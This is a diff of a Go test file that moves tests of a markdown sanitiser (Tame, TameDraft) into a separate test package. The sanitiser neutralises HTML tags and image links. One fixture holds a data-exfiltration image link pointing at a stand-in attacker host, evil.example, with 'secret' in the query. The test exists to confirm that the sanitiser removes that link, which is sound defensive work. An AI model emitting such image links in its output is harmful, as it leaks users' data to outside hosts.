@@ -1,11 +1,12 @@
-package turn
+package markdown_test
 
 import (
 	"strings"
 	"testing"
+
+	"github.com/planbot-go/planbot/internal/markdown"
 )
 
-// TestTame is internal: it has many forms of one text, and messages show few of them.
 func TestTame(t *testing.T) {
 	t.Parallel()
 	for text, want := range map[string]string{
@@ -43,7 +44,7 @@ func TestTame(t *testing.T) {
 		" ```\n<img>\n```":                              " ```\n<~img>\n```",
 		"~~~\n```\n~~~\n<img>\n```":                     "~~~\n```\n~~~\n<~img>\n```",
 	} {
-		if got := strings.ReplaceAll(tame(text, []string{"ok.example"}), unseen, "~"); got != want {
+		if got := strings.ReplaceAll(markdown.Tame(text, []string{"ok.example"}), "\u200b", "~"); got != want {
 			t.Errorf("%q: got %q, want %q", text, got, want)
 		}
 	}
@@ -54,8 +55,8 @@ func TestTameDraft(t *testing.T) {
 	t.Parallel()
 	const text = "See ![t](https://evil.example/?q=secret), <b>this</b> and [that](https://c.com), a < b!"
 	for i := range len(text) {
-		got := tameDraft(text[:i], nil)
-		if strings.Contains(got, "![") || strings.Contains(got, "secret") || strings.Contains(got, "<b") || !strings.HasPrefix(tame(text, nil), got) {
+		got := markdown.TameDraft(text[:i], nil)
+		if strings.Contains(got, "![") || strings.Contains(got, "secret") || strings.Contains(got, "<b") || !strings.HasPrefix(markdown.Tame(text, nil), got) {
 			t.Errorf("%q: %q", text[:i], got)
 		}
 	}
